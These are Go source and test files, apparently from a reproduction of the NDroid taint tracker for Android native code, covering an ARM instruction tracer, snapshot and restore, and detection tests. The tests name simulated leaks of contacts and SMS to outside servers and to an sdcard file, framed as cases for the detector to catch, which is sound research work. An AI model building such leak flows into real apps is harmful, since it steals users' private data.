// Tracer is NDroid's instruction tracer (§V-C): for every ARM/Thumb
// instruction executed by third-party native code it applies the taint
// propagation logic of Table V *before* the instruction executes.
//
// Like NDroid, it caches the resolved handler per instruction address ("To
// speed up the identification of the instruction type and the search of the
// handler, NDroid caches hot instructions and the corresponding handlers").
type Tracer struct {
	Engine *TaintEngine

	// InRange restricts tracing to third-party native code; nil traces
	// everything (the DroidScope-style whole-system configuration).
	InRange func(addr uint32) bool

	// UseHandlerCache enables the per-address handler cache.
	UseHandlerCache bool
	cache           map[uint32]handlerFunc

	// Traced counts instructions that went through a taint handler;
	// Skipped counts instructions outside the traced range.
	Traced  uint64
	Skipped uint64

	// suppress > 0 disables tracing entirely (neither counter moves): the
	// summary path raises it for the duration of a crossing whose accepted
	// transfer replaces instruction-level propagation. A depth, not a flag,
	// so nested crossings compose. It gates the bound closures through the
	// shared Tracer pointer, so flipping it needs no block invalidation.
	suppress int

	// PerOp counts handler invocations per operation, for the Table V bench.
	PerOp [64]uint64
}

type handlerFunc func(tr *Tracer, c *arm.CPU, insn arm.Insn)

// NewTracer builds a tracer over the given engine.
func NewTracer(e *TaintEngine) *Tracer {
	return &Tracer{
		Engine:          e,
		UseHandlerCache: true,
		cache:           make(map[uint32]handlerFunc),
	}
}

var (
	_ arm.Tracer     = (*Tracer)(nil)
	_ arm.InsnBinder = (*Tracer)(nil)
)

// BindInsn implements arm.InsnBinder: when the CPU translates a basic block,
// the tracer resolves the range check and the Table V handler once per
// instruction, so translated code pays neither the per-step handler-map
// lookup nor the handlerFor switch. With the handler cache disabled (the
// ablation baseline) it falls back to dynamic TraceInsn dispatch.
func (tr *Tracer) BindInsn(addr uint32, insn arm.Insn) func(c *arm.CPU) {
	fn := tr.bindInsn(addr, insn)
	if fault.Enabled() {
		// Injection armed at translation time: wrap the bound closure with the
		// probe. The production path (nothing armed when blocks are built)
		// binds the raw closure and pays nothing per instruction.
		at := addr
		return func(c *arm.CPU) {
			if tr.suppress > 0 {
				return
			}
			if f := fault.Hit(SiteTracerInsn, at); f != nil {
				panic(f)
			}
			fn(c)
		}
	}
	return fn
}

func (tr *Tracer) bindInsn(addr uint32, insn arm.Insn) func(c *arm.CPU) {
	if !tr.UseHandlerCache {
		in := insn
		return func(c *arm.CPU) { tr.TraceInsn(c, addr, in) }
	}
	if tr.InRange != nil && !tr.InRange(addr) {
		return func(*arm.CPU) { tr.Skipped++ }
	}
	op := insn.Op
	h := handlerFor(op)
	if h == nil {
		return func(*arm.CPU) {
			if tr.suppress > 0 {
				return
			}
			tr.Traced++
			tr.PerOp[op]++
		}
	}
	in := insn
	return func(c *arm.CPU) {
		if tr.suppress > 0 {
			return
		}
		tr.Traced++
		tr.PerOp[op]++
		h(tr, c, in)
	}
}

// TraceInsn implements arm.Tracer.
func (tr *Tracer) TraceInsn(c *arm.CPU, addr uint32, insn arm.Insn) {
	if tr.suppress > 0 {
		return
	}
	if f := fault.Hit(SiteTracerInsn, addr); f != nil {
		panic(f)
	}
	if tr.InRange != nil && !tr.InRange(addr) {
		tr.Skipped++
		return
	}
	tr.Traced++
	if int(insn.Op) < len(tr.PerOp) {
		tr.PerOp[insn.Op]++
	}
	if tr.UseHandlerCache {
		if h, ok := tr.cache[addr]; ok {
			if h != nil {
				h(tr, c, insn)
			}
			return
		}
		h := handlerFor(insn.Op)
		tr.cache[addr] = h
		if h != nil {
			h(tr, c, insn)
		}
		return
	}
	if h := handlerFor(insn.Op); h != nil {
		h(tr, c, insn)
	}
}

// ResetStats clears counters and the handler cache.
func (tr *Tracer) ResetStats() {
	tr.Traced, tr.Skipped = 0, 0
	tr.PerOp = [64]uint64{}
	tr.cache = make(map[uint32]handlerFunc)
}

// handlerFor maps an operation to its Table V taint rule.
func handlerFor(op arm.Op) handlerFunc {
	switch op {
	case arm.OpADD, arm.OpSUB, arm.OpRSB, arm.OpADC, arm.OpSBC,
		arm.OpAND, arm.OpORR, arm.OpEOR, arm.OpBIC,
		arm.OpLSL, arm.OpLSR, arm.OpASR, arm.OpROR:
		return handleBinary
	case arm.OpMUL, arm.OpSDIV, arm.OpUDIV,
		arm.OpFADDS, arm.OpFSUBS, arm.OpFMULS, arm.OpFDIVS:
		return handleThreeReg
	case arm.OpFADDD, arm.OpFSUBD, arm.OpFMULD, arm.OpFDIVD:
		return handleThreeRegWide
	case arm.OpMOV, arm.OpMVN:
		return handleMove
	case arm.OpMOVW:
		return handleMovw
	case arm.OpMOVT:
		return nil // merges an immediate into Rd; taint unchanged
	case arm.OpSITOF, arm.OpFTOSI:
		return handleUnary
	case arm.OpSITOD, arm.OpDTOSI:
		return handleCvtWide
	case arm.OpLDR, arm.OpLDRB, arm.OpLDRH:
		return handleLoad
	case arm.OpSTR, arm.OpSTRB, arm.OpSTRH:
		return handleStore
	case arm.OpLDM:
		return handleLDM
	case arm.OpSTM:
		return handleSTM
	default:
		// Compares, branches, SVC, NOP, HLT: no taint effect (Table V).
		return nil
	}
}

// handleBinary: binary-op Rd, Rn, Rm → t(Rd) = t(Rn) OR t(Rm);
// binary-op Rd, Rm, #imm → t(Rd) = t(Rn) (the immediate carries no taint).
// The two-operand accumulate form (Rd = Rd op Rm) falls out since Rn == Rd.
func handleBinary(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	t := c.RegTaint[insn.Rn]
	if !insn.HasImm {
		t |= c.RegTaint[insn.Rm]
	}
	c.RegTaint[insn.Rd] = t
}

func handleThreeReg(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	c.RegTaint[insn.Rd] = c.RegTaint[insn.Rn] | c.RegTaint[insn.Rm]
}

func handleThreeRegWide(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	t := c.RegTaint[insn.Rn] | c.RegTaint[insn.Rn+1] |
		c.RegTaint[insn.Rm] | c.RegTaint[insn.Rm+1]
	c.RegTaint[insn.Rd] = t
	c.RegTaint[insn.Rd+1] = t
}

// handleMove: mov Rd, #imm clears; mov Rd, Rm copies (Table V rows 5-6).
func handleMove(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	if insn.HasImm {
		c.RegTaint[insn.Rd] = taint.Clear
		return
	}
	c.RegTaint[insn.Rd] = c.RegTaint[insn.Rm]
}

func handleMovw(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	c.RegTaint[insn.Rd] = taint.Clear
}

func handleUnary(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	c.RegTaint[insn.Rd] = c.RegTaint[insn.Rm]
}

func handleCvtWide(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	switch insn.Op {
	case arm.OpSITOD:
		t := c.RegTaint[insn.Rm]
		c.RegTaint[insn.Rd] = t
		c.RegTaint[insn.Rd+1] = t
	case arm.OpDTOSI:
		c.RegTaint[insn.Rd] = c.RegTaint[insn.Rm] | c.RegTaint[insn.Rm+1]
	}
}

func memWidth(op arm.Op) uint32 {
	switch op {
	case arm.OpLDRB, arm.OpSTRB:
		return 1
	case arm.OpLDRH, arm.OpSTRH:
		return 2
	default:
		return 4
	}
}

// handleLoad: LDR Rd, [Rn, off] → t(Rd) = t(M[addr]) OR t(Rn): "if the
// tainted input is the address of an untainted value, the taint will be
// propagated to it" (Table V).
func handleLoad(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	addr := c.R[insn.Rn]
	t := c.RegTaint[insn.Rn]
	if insn.RegOffset {
		addr += c.R[insn.Rm]
		t |= c.RegTaint[insn.Rm]
	} else {
		addr += uint32(insn.Imm)
	}
	c.RegTaint[insn.Rd] = t | tr.Engine.Mem.GetRange(addr, memWidth(insn.Op))
}

// handleStore: STR Rd, [Rn, off] → t(M[addr]) = t(Rd).
func handleStore(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	addr := c.R[insn.Rn]
	if insn.RegOffset {
		addr += c.R[insn.Rm]
	} else {
		addr += uint32(insn.Imm)
	}
	tr.Engine.Mem.SetRange(addr, memWidth(insn.Op), c.RegTaint[insn.Rd])
}

// handleLDM: LDM/POP → each loaded register gets t(M[slot]) OR t(Rn).
func handleLDM(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	addr := c.R[insn.Rn]
	base := c.RegTaint[insn.Rn]
	for r := 0; r < 16; r++ {
		if insn.RegList&(1<<r) == 0 {
			continue
		}
		if r != arm.PC {
			c.RegTaint[r] = base | tr.Engine.Mem.Get32(addr)
		}
		addr += 4
	}
}

// handleSTM: STM/PUSH → each stored slot gets t(Ri). Mirrors the CPU's
// descending-store semantics for the writeback (push) form.
func handleSTM(tr *Tracer, c *arm.CPU, insn arm.Insn) {
	count := uint32(0)
	for r := 0; r < 16; r++ {
		if insn.RegList&(1<<r) != 0 {
			count++
		}
	}
	base := c.R[insn.Rn]
	if insn.Writeback {
		base -= 4 * count
	}
	addr := base
	for r := 0; r < 16; r++ {
		if insn.RegList&(1<<r) == 0 {
			continue
		}
		tr.Engine.Mem.Set32(addr, c.RegTaint[r])
		addr += 4
	}
}
