package core_test

import (
	"fmt"
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
)

// runAppGated is runApp with the gate explicitly on or off.
func runAppGated(t *testing.T, app *apps.App, mode core.Mode, gate bool) *core.Analyzer {
	t.Helper()
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		t.Fatalf("install %s: %v", app.Name, err)
	}
	var a *core.Analyzer
	if gate {
		a = core.NewAnalyzer(sys, mode)
	} else {
		a = core.NewAnalyzerNoGate(sys, mode)
	}
	a.Log.Enabled = true
	if err := app.Run(sys); err != nil {
		t.Fatalf("run %s under %s: %v", app.Name, mode, err)
	}
	return a
}

func leakStrings(a *core.Analyzer) string {
	s := ""
	for _, l := range a.Leaks {
		s += l.String() + "\n"
	}
	return s
}

// TestGateSoundnessFlowLogs is the tentpole acceptance check: for every
// evaluation app and every analysis mode, the flow log, the leak list, and
// the detection verdict must be byte-identical with the zero-taint fast path
// on and off. The gate may only ever skip work whose inputs are all zero.
func TestGateSoundnessFlowLogs(t *testing.T) {
	modes := []core.Mode{core.ModeTaintDroid, core.ModeNDroid, core.ModeDroidScope}
	for _, app := range apps.Registry() {
		for _, mode := range modes {
			app, mode := app, mode
			t.Run(fmt.Sprintf("%s/%s", app.Name, mode), func(t *testing.T) {
				off := runAppGated(t, app, mode, false)
				on := runAppGated(t, app, mode, true)

				if got, want := on.Log.String(), off.Log.String(); got != want {
					t.Errorf("flow log diverges with gating on:\n--- gated ---\n%s\n--- ungated ---\n%s", got, want)
				}
				if got, want := leakStrings(on), leakStrings(off); got != want {
					t.Errorf("leaks diverge with gating on:\ngated:\n%s\nungated:\n%s", got, want)
				}
				if app.ExpectTag != 0 {
					if on.Detected(app.ExpectTag) != off.Detected(app.ExpectTag) {
						t.Errorf("detection verdict diverges: gated=%v ungated=%v",
							on.Detected(app.ExpectTag), off.Detected(app.ExpectTag))
					}
				}
			})
		}
	}
}

// TestGateTable1Matrix re-derives the Table I detection matrix with gating
// enabled and checks it cell by cell against the paper's expectations — the
// same assertions as TestTable1DetectionMatrix, now guaranteed to run with
// the fast path on.
func TestGateTable1Matrix(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			td := runAppGated(t, app, core.ModeTaintDroid, true)
			nd := runAppGated(t, app, core.ModeNDroid, true)
			if app.Case == "benign" {
				if len(td.Leaks) != 0 || len(nd.Leaks) != 0 {
					t.Fatalf("benign app reported leaks: td=%v nd=%v", td.Leaks, nd.Leaks)
				}
				return
			}
			if got := td.Detected(app.ExpectTag); got != app.DetectedByTaintDroid {
				t.Errorf("TaintDroid detection = %v, want %v", got, app.DetectedByTaintDroid)
			}
			if !nd.Detected(app.ExpectTag) {
				t.Errorf("NDroid missed the leak (case %s) with gating on; log:\n%s",
					app.Case, nd.Log.String())
			}
		})
	}
}

// TestGateTakesFastPath asserts the gate actually engages: the benign app
// never introduces taint, so under NDroid every translated native block must
// run bare and the latch must stay off.
func TestGateTakesFastPath(t *testing.T) {
	app, ok := apps.ByName("benign")
	if !ok {
		t.Fatal("benign app missing")
	}
	a := runAppGated(t, app, core.ModeNDroid, true)
	cpu := a.Sys.CPU
	if cpu.GateFastBlocks == 0 {
		t.Error("benign app executed no fast-path blocks")
	}
	if cpu.GateSlowBlocks != 0 {
		t.Errorf("benign app executed %d instrumented blocks, want 0", cpu.GateSlowBlocks)
	}
	if a.Sys.VM.TaintSeen() {
		t.Error("Java taint latch fired on the benign app")
	}
	if a.Live.Total() != 0 {
		t.Errorf("liveness total = %d at end of benign run, want 0", a.Live.Total())
	}

	// A leaking app must flip to the slow path at least once.
	leaky, _ := apps.ByName("case1")
	b := runAppGated(t, leaky, core.ModeNDroid, true)
	if b.Sys.CPU.GateSlowBlocks == 0 {
		t.Error("case1 never executed an instrumented block despite live taint")
	}
	if !b.Sys.VM.TaintSeen() {
		t.Error("case1 never fired the Java taint latch")
	}
}
