package core

import (
	"repro/internal/arm"
	"repro/internal/dvm"
	"repro/internal/taint"
)

// TaintEngine is NDroid's native-context taint state (§V-E): the CPU's shadow
// registers (held on the CPU itself), a byte-granular memory taint map, and a
// shadow map keyed by indirect reference — the paper's answer to the moving
// garbage collector ("the shadow memory uses the indirect reference as key to
// locate the taint information", §V-B).
type TaintEngine struct {
	CPU *arm.CPU
	Mem *taint.MemTaint
	Ref map[uint32]taint.Tag
	// Live, when attached, aggregates this engine's taint presence (memory
	// bytes via Mem, reference shadow entries via SrcRef) for the gate.
	Live *taint.Liveness
}

// NewTaintEngine creates an empty engine bound to the CPU's shadow registers.
func NewTaintEngine(c *arm.CPU) *TaintEngine {
	return NewTaintEngineOn(c, taint.NewMemTaint())
}

// NewTaintEngineOn creates an engine over an existing shadow-taint map — the
// System-lifetime map the snapshot machinery rewinds between attempts.
func NewTaintEngineOn(c *arm.CPU, mt *taint.MemTaint) *TaintEngine {
	return &TaintEngine{
		CPU: c,
		Mem: mt,
		Ref: make(map[uint32]taint.Tag),
	}
}

// AttachLiveness wires the engine's taint presence into the process-wide
// aggregate, contributing any taint already present.
func (e *TaintEngine) AttachLiveness(l *taint.Liveness) {
	e.Live = l
	e.Mem.AttachLiveness(l)
	if n := len(e.Ref); n != 0 {
		l.Adjust(taint.SrcRef, n)
	}
}

// Reset drops all native-context taint.
func (e *TaintEngine) Reset() {
	e.Mem.Reset()
	if e.Live != nil {
		e.Live.Adjust(taint.SrcRef, -len(e.Ref))
	}
	e.Ref = make(map[uint32]taint.Tag)
	for i := range e.CPU.RegTaint {
		e.CPU.RegTaint[i] = 0
	}
}

// RefTaint returns the shadow taint of an indirect reference.
func (e *TaintEngine) RefTaint(ref uint32) taint.Tag { return e.Ref[ref] }

// AddRefTaint ORs tag into an indirect reference's shadow entry.
func (e *TaintEngine) AddRefTaint(ref uint32, tag taint.Tag) {
	if tag == 0 || ref == 0 {
		return
	}
	if _, ok := e.Ref[ref]; !ok && e.Live != nil {
		e.Live.Adjust(taint.SrcRef, 1)
	}
	e.Ref[ref] |= tag
}

// ObjectTaint unifies everything NDroid knows about a Java object reachable
// from native code: the TaintDroid tag stored on the object, the shadow entry
// for the reference the native code holds, and the taint-map bytes at the
// object's direct address (Fig. 6 taints "memory address 0x4127deb8").
func (e *TaintEngine) ObjectTaint(o *dvm.Object, ref uint32) taint.Tag {
	var t taint.Tag
	if o != nil {
		t |= o.Taint
		t |= e.Mem.Get32(o.Addr)
	}
	if ref != 0 {
		t |= e.Ref[ref]
	}
	return t
}

// OnGCMove migrates direct-address taint-map entries when the collector
// relocates an object. Reference-keyed shadow entries need no migration —
// that is the point of keying by indirect reference.
func (e *TaintEngine) OnGCMove(oldAddr, newAddr uint32, o *dvm.Object) {
	t := e.Mem.Get32(oldAddr)
	if t != 0 {
		e.Mem.Set32(oldAddr, 0)
		e.Mem.Set32(newAddr, t)
	}
}
