package core_test

import (
	"testing"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/dex"
)

func fingerprintOf(t *testing.T, r *core.Runner, spec core.AppSpec) core.Fingerprint {
	t.Helper()
	fp, diags, err := r.Fingerprint(spec)
	if err != nil {
		t.Fatal(err)
	}
	if len(diags) != 0 {
		t.Fatalf("unexpected validation diagnostics: %v", diags)
	}
	return fp
}

// TestFingerprintScopes pins the artifact-scope split the service and the
// store key by: the display name is excluded entirely, native-library prints
// cover only the image content (so two apps sharing a lib share the print),
// and the dex digest covers exactly what an Install registered.
func TestFingerprintScopes(t *testing.T) {
	app, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	r, err := core.NewRunner()
	if err != nil {
		t.Fatal(err)
	}
	base := fingerprintOf(t, r, app.Spec())
	if base.App == "" || base.Static == "" || base.Dex == "" || len(base.Libs) == 0 {
		t.Fatalf("incomplete fingerprint: %+v", base)
	}
	if base.App != base.Static {
		t.Errorf("submission identity should equal the static key: %+v", base)
	}

	// Stability: re-fingerprinting the same spec on the restored System must
	// reproduce every digest (the snapshot rewinds load bases).
	if again := fingerprintOf(t, r, app.Spec()); again.App != base.App || again.Dex != base.Dex {
		t.Errorf("fingerprint unstable across restores: %+v vs %+v", again, base)
	}

	// Identical content under another display name is the same submission.
	renamed := app.Spec()
	renamed.Name = "case1-resubmitted-under-alias"
	if got := fingerprintOf(t, r, renamed); got.App != base.App {
		t.Errorf("display name leaked into the app digest: %s vs %s", got.App, base.App)
	}

	// Shared-lib variant: identical native library, one extra dex class. The
	// library prints must be unchanged (that is what makes assembled images
	// reusable across apps) while the dex and app digests must move.
	variant := app.Spec()
	inner := variant.Install
	variant.Install = func(sys *core.System) error {
		if err := inner(sys); err != nil {
			return err
		}
		cb := dex.NewClass("Lcom/ndroid/extra/Pad;")
		cb.Method("pad", "I", dex.AccStatic, 1).
			Const(0, 7).
			Return(0).
			Done()
		sys.VM.RegisterClass(cb.Build())
		return nil
	}
	vfp := fingerprintOf(t, r, variant)
	if vfp.Dex == base.Dex {
		t.Error("dex digest missed the added class")
	}
	if vfp.App == base.App {
		t.Error("app digest missed the added class")
	}
	if len(vfp.Libs) != len(base.Libs) {
		t.Fatalf("lib count changed: %d vs %d", len(vfp.Libs), len(base.Libs))
	}
	for i := range vfp.Libs {
		if vfp.Libs[i].Digest != base.Libs[i].Digest {
			t.Errorf("shared library %s changed print: %s vs %s",
				vfp.Libs[i].Name, vfp.Libs[i].Digest, base.Libs[i].Digest)
		}
	}
}

// TestFingerprintDexCheckCached: validation verdicts are keyed by class
// content digest in the artifact store, so re-fingerprinting identical
// content replays them without re-running Validate.
func TestFingerprintDexCheckCached(t *testing.T) {
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	r, err := core.NewCachedRunner(store)
	if err != nil {
		t.Fatal(err)
	}
	app, ok := apps.ByName("case1")
	if !ok {
		t.Fatal("case1 missing")
	}
	fingerprintOf(t, r, app.Spec())
	v1 := r.Stats.DexValidations
	if v1 == 0 {
		t.Fatal("first fingerprint ran no validations")
	}
	fingerprintOf(t, r, app.Spec())
	if r.Stats.DexValidations != v1 {
		t.Errorf("re-validated cached classes: %d -> %d", v1, r.Stats.DexValidations)
	}
	if r.Stats.DexCheckHits == 0 {
		t.Error("no validation verdicts served from the store")
	}

	// A second runner over the same store inherits the verdicts cold.
	r2, err := core.NewCachedRunner(store)
	if err != nil {
		t.Fatal(err)
	}
	fingerprintOf(t, r2, app.Spec())
	if r2.Stats.DexValidations != 0 {
		t.Errorf("fresh runner re-validated %d classes despite warm store", r2.Stats.DexValidations)
	}
}
