package core

// System-level snapshot/restore: the fork-server primitive behind the
// boot-once execution model (ISSUE 6). Snapshot captures a warm System —
// typically right after NewSystem, at post-framework-init state — and Restore
// rewinds every layer in O(dirty pages):
//
//   - mem.Memory and taint.MemTaint rewind copy-on-write page sets; restoring
//     a guest page fires the write-notify path, so the CPU invalidates decoded
//     instructions and translated blocks on exactly the dirtied pages and
//     keeps everything else warm across attempts.
//   - arm.CPU, dvm.VM, kernel.Kernel, and libc.Libc rewind their host-side
//     scalars and tables; the VM's translation epoch is bumped (never rewound)
//     so nothing compiled during the discarded attempt can revalidate.
//
// Restore is itself a fault-injection site (SiteSnapshotRestore): an injected
// restore corruption surfaces as a typed InternalError, which the degradation
// ladder answers with its same-mode fresh-System retry.

import (
	"repro/internal/arm"
	"repro/internal/dvm"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/libc"
)

// SiteSnapshotRestore guards the snapshot-restore path.
const SiteSnapshotRestore = "core.snapshot.restore"

func init() {
	fault.RegisterSite(SiteSnapshotRestore, "core")
}

// Snapshot is a restorable capture of a whole System.
type Snapshot struct {
	Sys *System

	cpu  *arm.CPUSnapshot
	vm   *dvm.VMSnapshot
	kern *kernel.KernelSnapshot
	libc *libc.LibcSnapshot
}

// RestoreStats reports the work one Restore did.
type RestoreStats struct {
	GuestPages int // guest pages copied back (the dirty set)
	TaintPages int // shadow-taint pages reset
}

// Snapshot captures the System's current state as the copy-on-write baseline.
// A second call moves the baseline forward.
func (sys *System) Snapshot() *Snapshot {
	// Taint before guest memory only by convention; the layers are disjoint.
	sys.Taint.Snapshot()
	sys.Mem.Snapshot()
	return &Snapshot{
		Sys:  sys,
		cpu:  sys.CPU.Snapshot(),
		vm:   sys.VM.Snapshot(),
		kern: sys.Kern.Snapshot(),
		libc: sys.Libc.Snapshot(),
	}
}

// Restore rewinds the System to the snapshot. On an injected restore fault
// the System must be considered corrupt: the caller discards it and boots
// fresh (Runner does this on the ladder's InternalError retry).
func (s *Snapshot) Restore() (RestoreStats, error) {
	if f := fault.Hit(SiteSnapshotRestore, 0); f != nil {
		// Restore corruption is an analyzer-internal failure whatever kind was
		// armed: surface it as a typed InternalError so the degradation ladder
		// answers with its same-mode fresh-System retry.
		f.Kind = fault.InternalError
		return RestoreStats{}, f
	}
	sys := s.Sys
	var st RestoreStats
	// Guest memory first: restoring dirty pages fires write-notify, which
	// invalidates the CPU's per-page caches before the CPU scalars come back.
	st.GuestPages = sys.Mem.Restore()
	st.TaintPages = sys.Taint.Restore()
	sys.CPU.Restore(s.cpu)
	sys.VM.Restore(s.vm)
	sys.Kern.Restore(s.kern)
	sys.Libc.Restore(s.libc)
	return st, nil
}
