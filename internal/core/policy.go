package core

import (
	"repro/internal/arm"
	"repro/internal/taint"
)

// SourcePolicy records the taints to be propagated from the Java context to
// the native context when a native method starts executing — a direct
// transliteration of the paper's Listing 1. One is created per
// dvmCallJNIMethod invocation and consumed at the method's first instruction.
type SourcePolicy struct {
	MethodAddress uint32

	// TR0..TR3 are the taints of the first four AAPCS parameters.
	TR0, TR1, TR2, TR3 taint.Tag

	// StackArgsNum and StackArgsTaints describe parameters passed on the
	// stack (the fifth parameter onward).
	StackArgsNum    int
	StackArgsTaints []taint.Tag

	MethodShorty string
	AccessFlags  uint32

	// Handler completes the taint initialization with the live CPU state,
	// "right before the native method executes" (§V-B).
	Handler func(*SourcePolicy, *arm.CPU)
}

// Apply runs the policy's handler.
func (p *SourcePolicy) Apply(c *arm.CPU) {
	if p.Handler != nil {
		p.Handler(p, c)
	}
}

// PolicyMap is the hash map of <method address, SourcePolicy> pairs (§V-B).
type PolicyMap struct {
	m map[uint32]*SourcePolicy
	// Applied counts consumed policies (for tests and stats).
	Applied int
}

// NewPolicyMap returns an empty map.
func NewPolicyMap() *PolicyMap {
	return &PolicyMap{m: make(map[uint32]*SourcePolicy)}
}

// Put stores (replacing) the policy for a method address.
func (pm *PolicyMap) Put(p *SourcePolicy) { pm.m[p.MethodAddress&^1] = p }

// Take retrieves and removes the policy for addr.
func (pm *PolicyMap) Take(addr uint32) (*SourcePolicy, bool) {
	p, ok := pm.m[addr&^1]
	if ok {
		delete(pm.m, addr&^1)
		pm.Applied++
	}
	return p, ok
}

// Len reports how many policies are pending.
func (pm *PolicyMap) Len() int { return len(pm.m) }

// defaultHandler initializes shadow registers and stack-argument taint
// according to the policy, and is the standard handler installed by the DVM
// Hook Engine.
func defaultHandler(e *TaintEngine) func(*SourcePolicy, *arm.CPU) {
	return func(p *SourcePolicy, c *arm.CPU) {
		c.SetRegTaint(0, p.TR0)
		c.SetRegTaint(1, p.TR1)
		c.SetRegTaint(2, p.TR2)
		c.SetRegTaint(3, p.TR3)
		for i := 0; i < p.StackArgsNum && i < len(p.StackArgsTaints); i++ {
			e.Mem.SetRange(c.R[arm.SP]+uint32(4*i), 4, p.StackArgsTaints[i])
		}
	}
}
