package core_test

import (
	"testing"

	"repro/internal/apps"
	"repro/internal/core"
	"repro/internal/dvm"
	"repro/internal/taint"
)

// runApp installs and runs one evaluation app under a mode, returning the
// analyzer with its collected leaks.
func runApp(t *testing.T, app *apps.App, mode core.Mode) *core.Analyzer {
	t.Helper()
	sys, err := core.NewSystem()
	if err != nil {
		t.Fatal(err)
	}
	if err := app.Install(sys); err != nil {
		t.Fatalf("install %s: %v", app.Name, err)
	}
	a := core.NewAnalyzer(sys, mode)
	a.Log.Enabled = true
	if err := app.Run(sys); err != nil {
		t.Fatalf("run %s under %s: %v", app.Name, mode, err)
	}
	return a
}

// TestTable1DetectionMatrix verifies the paper's central claim (§IV, Table I):
// TaintDroid detects only Case 1; NDroid detects every case; neither reports
// the benign control.
func TestTable1DetectionMatrix(t *testing.T) {
	for _, app := range apps.Registry() {
		app := app
		t.Run(app.Name, func(t *testing.T) {
			td := runApp(t, app, core.ModeTaintDroid)
			nd := runApp(t, app, core.ModeNDroid)

			if app.Case == "benign" {
				if len(td.Leaks) != 0 || len(nd.Leaks) != 0 {
					t.Fatalf("benign app reported leaks: td=%v nd=%v", td.Leaks, nd.Leaks)
				}
				return
			}
			if got := td.Detected(app.ExpectTag); got != app.DetectedByTaintDroid {
				t.Errorf("TaintDroid detection = %v, want %v (leaks: %v)",
					got, app.DetectedByTaintDroid, td.Leaks)
			}
			if !nd.Detected(app.ExpectTag) {
				t.Errorf("NDroid missed the leak (case %s); log:\n%s", app.Case, nd.Log.String())
			}
			if app.ExpectSink != "" {
				if leaks := nd.LeaksAt(app.ExpectSink); len(leaks) == 0 {
					t.Errorf("NDroid: no leak at sink %q; got %v", app.ExpectSink, nd.Leaks)
				}
			}
		})
	}
}

// TestQQPhoneBookFlow checks the Fig. 6 details: the tainted URL leaves for
// the QQ server and the flow log shows the NewStringUTF taint hand-off.
func TestQQPhoneBookFlow(t *testing.T) {
	app, _ := apps.ByName("qqphonebook")
	a := runApp(t, app, core.ModeNDroid)

	leaks := a.LeaksAt("Network.send")
	if len(leaks) != 1 {
		t.Fatalf("want 1 Java-sink leak, got %v", a.Leaks)
	}
	l := leaks[0]
	if l.Dest != "info.3g.qq.com" {
		t.Errorf("dest = %q", l.Dest)
	}
	if l.Tag != taint.SMS|taint.Contacts {
		t.Errorf("tag = %v, want 0x202 (SMS|Contacts)", l.Tag)
	}
	wantPrefix := "http://sync.3g.qq.com/xpimlogin?sid=" + dvm.ContactName
	if string(l.Data[:len(wantPrefix)]) != wantPrefix {
		t.Errorf("leaked data = %q", l.Data)
	}
	for _, want := range []string{"NewStringUTF Begin", "dvmCreateStringFromCstr", "add taint", "realStringAddr"} {
		if !a.Log.Contains(want) {
			t.Errorf("flow log missing %q:\n%s", want, a.Log.String())
		}
	}
	// The bytes really left through the emulated network.
	sent := a.Sys.Kern.Net.SentTo("info.3g.qq.com")
	if len(sent) != 1 {
		t.Fatalf("network log: %q", sent)
	}
}

// TestEPhoneFlow checks Fig. 7: the SIP REGISTER with the contact reaches
// softphone.comwave.net through the native sendto sink.
func TestEPhoneFlow(t *testing.T) {
	app, _ := apps.ByName("ephone")
	a := runApp(t, app, core.ModeNDroid)

	leaks := a.LeaksAt("sendto")
	if len(leaks) != 1 {
		t.Fatalf("want sendto leak, got %v", a.Leaks)
	}
	l := leaks[0]
	if l.Dest != "softphone.comwave.net" {
		t.Errorf("dest = %q", l.Dest)
	}
	if !l.Tag.Has(taint.Contacts) {
		t.Errorf("tag = %v", l.Tag)
	}
	want := "REGISTER sip:softphone.comwave.net From: " + dvm.ContactName
	if string(l.Data) != want {
		t.Errorf("data = %q, want %q", l.Data, want)
	}
}

// TestPoCCase2Flow checks Fig. 8: contact id/name/email written to
// /sdcard/CONTACTS through fprintf, with the trust calls logged.
func TestPoCCase2Flow(t *testing.T) {
	app, _ := apps.ByName("poc-case2")
	a := runApp(t, app, core.ModeNDroid)

	leaks := a.LeaksAt("fprintf")
	if len(leaks) != 1 {
		t.Fatalf("want fprintf leak, got %v", a.Leaks)
	}
	l := leaks[0]
	if l.Dest != "/sdcard/CONTACTS" {
		t.Errorf("dest = %q", l.Dest)
	}
	want := dvm.ContactID + " " + dvm.ContactName + " " + dvm.ContactEmail
	if string(l.Data) != want {
		t.Errorf("data = %q, want %q", l.Data, want)
	}
	// The file on the emulated sdcard has the contents.
	content, ok := a.Sys.Kern.FS.ReadFile("/sdcard/CONTACTS")
	if !ok || string(content) != want {
		t.Errorf("file = %q, ok=%v", content, ok)
	}
	for _, wantLog := range []string{
		"TrustCallHandler[GetStringUTFChars] begin",
		"TrustCallHandler[fopen] begin",
		"SinkHandler[fprintf] begin",
		"TrustCallHandler[fclose] begin",
	} {
		if !a.Log.Contains(wantLog) {
			t.Errorf("flow log missing %q", wantLog)
		}
	}
}

// TestPoCCase3Flow checks Fig. 9: the taint crosses native code, comes back
// through NewStringUTF + CallStaticVoidMethod, and the dvmInterpret hook
// places it into the callback's frame.
func TestPoCCase3Flow(t *testing.T) {
	app, _ := apps.ByName("poc-case3")
	a := runApp(t, app, core.ModeNDroid)

	leaks := a.LeaksAt("Network.send")
	if len(leaks) != 1 {
		t.Fatalf("want Java sink leak, got %v", a.Leaks)
	}
	l := leaks[0]
